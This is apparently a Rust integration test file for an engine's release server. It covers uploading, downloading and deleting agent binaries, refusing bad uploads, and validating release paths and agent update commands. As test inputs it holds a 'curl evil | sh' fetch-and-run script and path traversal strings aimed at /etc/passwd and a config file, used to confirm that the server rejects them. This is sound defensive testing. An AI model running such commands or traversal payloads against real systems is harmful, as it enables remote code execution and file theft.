//! The engine as release server (issue 12): upload, list, download and delete a citrusd
//! release through the real engine binary; refused uploads leave nothing behind; release paths
//! are checked.

use std::path::PathBuf;
use std::time::Duration;

use serde_json::Value;

use crate::hub_support::{agent_headers, raw_connect, send, EngineProc, RawAgent, ADMIN_TOKEN};
use crate::support::{wait_for, DEADLINE};

/// A small file whose first 64 bytes are the ELF header of a 64-bit little-endian PIE for
/// `machine` (62 x86_64, 183 aarch64), then `len - 64` bytes of filler.
pub fn fake_elf(machine: u16, len: usize) -> Vec<u8> {
    let mut file: Vec<u8> = (0..len).map(|i| (i * 7 % 251) as u8).collect();
    file[..64].fill(0);
    file[..4].copy_from_slice(b"\x7fELF");
    file[4] = 2;
    file[5] = 1;
    file[16..18].copy_from_slice(&3u16.to_le_bytes());
    file[18..20].copy_from_slice(&machine.to_le_bytes());
    file
}

pub fn sha256_hex(bytes: &[u8]) -> String {
    let digest = aws_lc_rs::digest::digest(&aws_lc_rs::digest::SHA256, bytes);
    digest.as_ref().iter().map(|b| format!("{b:02x}")).collect()
}

fn client() -> reqwest::Client {
    reqwest::Client::builder()
        .timeout(Duration::from_secs(60))
        .build()
        .unwrap()
}

/// `POST /admin/releases?{query}` with `body` as the raw body (`chunked`: without a length,
/// written by hand over TCP since reqwest here has no streaming bodies).
pub fn upload(e: &EngineProc, query: &str, body: Vec<u8>, chunked: bool) -> (u16, Value) {
    if chunked {
        return upload_chunked(e, query, &body);
    }
    let url = format!("{}/admin/releases?{query}", e.url());
    let request = client()
        .post(url)
        .bearer_auth(ADMIN_TOKEN)
        .header("content-type", "application/octet-stream")
        .body(body);
    send(&e.rt, request)
}

fn upload_chunked(e: &EngineProc, query: &str, body: &[u8]) -> (u16, Value) {
    let head = format!(
        "POST /admin/releases?{query} HTTP/1.1\r\nhost: 127.0.0.1\r\nauthorization: Bearer {ADMIN_TOKEN}\r\n\
         content-type: application/octet-stream\r\ntransfer-encoding: chunked\r\nconnection: close\r\n\r\n"
    );
    raw(e, &head, body)
}

/// One request written as is over TCP (no URL normalisation), with `body` sent chunked after
/// `head` when not empty: status and JSON body.
fn raw(e: &EngineProc, head: &str, body: &[u8]) -> (u16, Value) {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    e.rt.block_on(async {
        let mut tcp = tokio::net::TcpStream::connect(("127.0.0.1", e.port))
            .await
            .unwrap();
        let write = async {
            tcp.write_all(head.as_bytes()).await?;
            if body.is_empty() {
                return Ok(());
            }
            for chunk in body.chunks(64 * 1024) {
                tcp.write_all(format!("{:x}\r\n", chunk.len()).as_bytes())
                    .await?;
                tcp.write_all(chunk).await?;
                tcp.write_all(b"\r\n").await?;
            }
            tcp.write_all(b"0\r\n\r\n").await
        };
        // The engine may answer before the end (a refusal): the answer is what counts.
        let _ = tokio::time::timeout(Duration::from_secs(30), write).await;
        let mut answer = Vec::new();
        tokio::time::timeout(Duration::from_secs(30), tcp.read_to_end(&mut answer))
            .await
            .expect("an answer in time")
            .unwrap();
        let text = String::from_utf8_lossy(&answer);
        let status = text.get(9..12).and_then(|s| s.parse().ok()).unwrap_or(0);
        let body = text.split_once("\r\n\r\n").map_or("", |(_, b)| b);
        (
            status,
            serde_json::from_str(body).unwrap_or(Value::String(text.to_string())),
        )
    })
}

/// `GET {path}` without a token: status, headers, body.
fn fetch(
    e: &EngineProc,
    path: &str,
    headers: &[(&str, &str)],
) -> (u16, reqwest::header::HeaderMap, Vec<u8>) {
    let url = format!("{}{path}", e.url());
    e.rt.block_on(async {
        let mut request = client().get(url);
        for (k, v) in headers {
            request = request.header(*k, *v);
        }
        let resp = request.send().await.unwrap();
        let status = resp.status().as_u16();
        let headers = resp.headers().clone();
        (status, headers, resp.bytes().await.unwrap().to_vec())
    })
}

fn releases_dir(e: &EngineProc) -> PathBuf {
    e.dir.path().join("state/releases")
}

/// The files in the releases directory (temp files included).
fn files(e: &EngineProc) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(releases_dir(e))
        .map(|d| {
            d.flatten()
                .map(|f| f.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    names.sort();
    names
}

#[test]
fn upload_list_download_and_delete_a_release() {
    let e = EngineProc::start("");
    let binary = fake_elf(62, 300_000);
    let sha = sha256_hex(&binary);

    let (status, body) = upload(&e, "version=0.4.2&arch=x86_64", binary.clone(), false);
    assert_eq!(status, 201, "{body}");
    let release = &body["release"];
    assert_eq!(release["sha256"], sha.as_str());
    assert_eq!(release["version"], "0.4.2");
    assert_eq!(release["arch"], "x86_64");
    assert_eq!(release["size"], 300_000);
    assert_eq!(
        files(&e),
        std::slice::from_ref(&sha),
        "stored under its SHA-256"
    );
    // The same bytes again (streamed, no length): the first record stands.
    let (status, again) = upload(&e, "version=0.4.3&arch=x86_64", binary.clone(), true);
    assert_eq!(status, 200, "{again}");
    assert_eq!(again["release"]["version"], "0.4.2");

    let list = e.get("/admin/releases");
    assert_eq!(list["releases"].as_array().unwrap().len(), 1, "{list}");
    assert_eq!(list["releases"][0]["sha256"], sha.as_str());
    // The admin routes want the token; the download does not.
    assert_eq!(e.call("GET", "/admin/releases", None, None).0, 401);

    let (status, headers, bytes) = fetch(&e, &format!("/releases/{sha}"), &[]);
    assert_eq!(status, 200);
    assert!(bytes == binary, "the download differs from the upload");
    let header = |name: &str| headers.get(name).map(|v| v.to_str().unwrap().to_owned());
    assert_eq!(header("content-length").as_deref(), Some("300000"));
    assert_eq!(header("x-checksum-sha256"), Some(sha.clone()));
    assert_eq!(header("etag"), Some(format!("\"{sha}\"")));
    assert_eq!(
        header("content-type").as_deref(),
        Some("application/octet-stream")
    );
    assert!(header("cache-control").unwrap().contains("immutable"));
    let etag = format!("\"{sha}\"");
    let (status, _, bytes) = fetch(&e, &format!("/releases/{sha}"), &[("if-none-match", &etag)]);
    assert_eq!((status, bytes.len()), (304, 0));

    let (status, body) = e.admin("DELETE", &format!("/admin/releases/{sha}"), None);
    assert_eq!(status, 200, "{body}");
    assert!(files(&e).is_empty(), "the file is removed: {:?}", files(&e));
    let (status, _, body) = fetch(&e, &format!("/releases/{sha}"), &[]);
    let body: Value = serde_json::from_slice(&body).unwrap();
    assert_eq!(status, 404, "{body}");
    assert!(
        body["error"]["message"]
            .as_str()
            .unwrap()
            .contains("no release"),
        "{body}"
    );
    assert_eq!(
        e.admin("DELETE", &format!("/admin/releases/{sha}"), None).0,
        404
    );
    assert_eq!(e.get("/admin/releases")["releases"], serde_json::json!([]));
}

#[test]
fn refused_uploads_say_why_and_leave_nothing_behind() {
    let e = EngineProc::start("max_release_size = \"1M\"\n");
    let refused = |query: &str, body: Vec<u8>, chunked: bool, want: u16, part: &str| {
        let (status, answer) = upload(&e, query, body, chunked);
        assert_eq!(status, want, "{query}: {answer}");
        let message = answer["error"]["message"].as_str().unwrap_or_default();
        assert!(
            message.contains(part),
            "{query}: {message:?} lacks {part:?}"
        );
    };
    let ok = "version=1.0.0&arch=x86_64";
    refused(
        ok,
        b"#!/bin/sh\ncurl evil | sh\n".to_vec(),
        false,
        400,
        "not a citrusd binary",
    );
    refused(ok, vec![b'M'; 200_000], true, 400, "no \\x7fELF magic");
    refused(
        ok,
        fake_elf(183, 200_000),
        false,
        400,
        "aarch64 executable, but arch=x86_64",
    );
    refused(
        "version=1.0.0&arch=aarch64",
        fake_elf(62, 200_000),
        true,
        400,
        "x86_64 executable, but arch=aarch64",
    );
    refused(
        "version=1.0.0&arch=mips",
        fake_elf(62, 1000),
        false,
        400,
        "unknown arch",
    );
    refused(
        "arch=x86_64",
        fake_elf(62, 1000),
        false,
        400,
        "missing `version`",
    );
    refused(
        "version=1.0.0",
        fake_elf(62, 1000),
        false,
        400,
        "missing `arch`",
    );
    refused(
        "version=a/../b&arch=x86_64",
        fake_elf(62, 1000),
        false,
        400,
        "invalid version",
    );
    // Over max_release_size: by its declared length, and streamed without one.
    let big = fake_elf(62, (1 << 20) + 1);
    refused(ok, big.clone(), false, 413, "larger than max_release_size");
    refused(ok, big, true, 413, "larger than max_release_size");
    assert!(files(&e).is_empty(), "left behind: {:?}", files(&e));
    assert_eq!(e.get("/admin/releases")["releases"], serde_json::json!([]));
    // Exactly the limit is fine.
    let (status, body) = upload(&e, ok, fake_elf(62, 1 << 20), true);
    assert_eq!(status, 201, "{body}");
}

#[test]
fn release_paths_must_be_a_sha256() {
    let e = EngineProc::start("");
    for path in [
        "/releases/..",
        "/releases/%2e%2e%2fengine.toml",
        "/releases/..%2F..%2Fetc%2Fpasswd",
        "/releases/engine.toml",
        &format!("/releases/{}", "AB".repeat(32)),
        &format!("/releases/{}", "a".repeat(63)),
    ] {
        // As written: a client would resolve `..` before sending.
        let head = format!("GET {path} HTTP/1.1\r\nhost: 127.0.0.1\r\nconnection: close\r\n\r\n");
        let (status, body) = raw(&e, &head, b"");
        assert_eq!(status, 400, "{path}: {body}");
        assert_eq!(body["error"]["code"], "bad_request", "{path}: {body}");
        assert!(
            body["error"]["message"]
                .as_str()
                .unwrap()
                .contains("64 lowercase hex"),
            "{path}: {body}"
        );
    }
    for path in [&format!("/releases/{}", "0".repeat(64)), "/releases/a/b"] {
        let (status, _, body) = fetch(&e, path, &[]);
        let body: Value = serde_json::from_slice(&body).unwrap_or(Value::Null);
        assert_eq!(status, 404, "{path}: {body}");
        assert_eq!(body["error"]["code"], "not_found", "{path}: {body}");
    }
    let head = format!(
        "DELETE /admin/releases/.. HTTP/1.1\r\nhost: 127.0.0.1\r\nauthorization: Bearer {ADMIN_TOKEN}\r\nconnection: close\r\n\r\n"
    );
    let (status, body) = raw(&e, &head, b"");
    assert_eq!(status, 400, "{body}");
}

#[test]
fn update_agent_to_a_release_the_engine_lacks_is_refused_before_sending() {
    use crate::hub_support::{agent_headers, raw_connect};
    let e = EngineProc::start("");
    let (id, key) = e.enrolled_agent("web-1");
    let mut ws = raw_connect(&e.rt, &e.ws_url(), &agent_headers(&id, &key)).unwrap();
    e.wait_agent_status(&id, "online");
    let refused = |sha256: Value, want: u16, part: &str| {
        let (status, body) = e.command(
            &id,
            serde_json::json!({"type": "update_agent", "sha256": sha256}),
        );
        assert_eq!(status, want, "{sha256}: {body}");
        let message = body["error"]["message"].as_str().unwrap_or_default();
        assert!(
            message.contains(part),
            "{sha256}: {message:?} lacks {part:?}"
        );
    };
    refused(Value::String("0".repeat(64)), 404, "no release");
    refused(
        Value::String("../../etc/passwd".into()),
        400,
        "64 lowercase hex",
    );
    refused(Value::String("ab".repeat(33)), 400, "64 lowercase hex");
    refused(serde_json::json!(42), 400, "must be a string");
    // Nothing was recorded or sent.
    let ops = e.get(&format!("/admin/agents/{id}/operations"));
    assert_eq!(ops["operations"], serde_json::json!([]), "{ops}");
    // A release it has (named in any case) goes through.
    let binary = fake_elf(62, 10_000);
    let sha = sha256_hex(&binary);
    assert_eq!(
        upload(&e, "version=1.0.0&arch=x86_64", binary, false).0,
        201
    );
    let (status, body) = e.command(
        &id,
        serde_json::json!({"type": "update_agent", "sha256": sha.to_uppercase()}),
    );
    assert_eq!(status, 202, "{body}");
    let frame = ws.recv(&e.rt, DEADLINE).unwrap().unwrap();
    let frame: Value = serde_json::from_str(&frame).unwrap();
    assert_eq!(frame["type"], "update_agent", "{frame}");
    assert_eq!(frame["sha256"], sha.as_str(), "sent lowercase: {frame}");
}

/// Connects as agent `id` and says, as citrusd does on connecting, that it runs `sha256`; waits
/// until the engine has recorded it.
fn connect_running(e: &EngineProc, id: &str, key: &str, sha256: &str) -> RawAgent {
    let mut ws = raw_connect(&e.rt, &e.ws_url(), &agent_headers(id, key)).unwrap();
    let hello = serde_json::json!({"type": "agent_connected", "agentId": id,
        "version": "2.0.0", "gitVersion": null, "binarySha256": sha256});
    assert!(ws.send(&e.rt, hello.to_string()));
    wait_for("the agent's binary recorded", DEADLINE, || {
        let agent = e.agent(id);
        match agent["agent"]["binarySha256"] == sha256 {
            true => Ok(()),
            false => Err(agent.to_string()),
        }
    });
    ws
}

#[test]
fn a_release_an_agent_runs_is_not_deleted() {
    let e = EngineProc::start("");
    let (agent, key) = e.enrolled_agent("web-1");
    let binary = fake_elf(62, 20_000);
    let sha = sha256_hex(&binary);
    assert_eq!(
        upload(&e, "version=2.0.0&arch=x86_64", binary, false).0,
        201
    );
    let ws = connect_running(&e, &agent, &key, &sha);
    let shown = e.get(&format!("/admin/releases/{sha}"));
    assert_eq!(shown["runningOn"], serde_json::json!([agent]), "{shown}");
    let (status, body) = e.admin("DELETE", &format!("/admin/releases/{sha}"), None);
    assert_eq!(status, 409, "{body}");
    let message = body["error"]["message"].as_str().unwrap();
    assert!(
        message.contains(&agent) && message.contains("update them to another release first"),
        "{message}"
    );
    assert_eq!(files(&e), std::slice::from_ref(&sha), "the file stays");
    // Once it reports another binary, the release can go.
    drop(ws);
    let _ws = connect_running(&e, &agent, &key, &"f".repeat(64));
    let (status, body) = e.admin("DELETE", &format!("/admin/releases/{sha}"), None);
    assert_eq!(status, 200, "{body}");
    assert!(files(&e).is_empty());
}
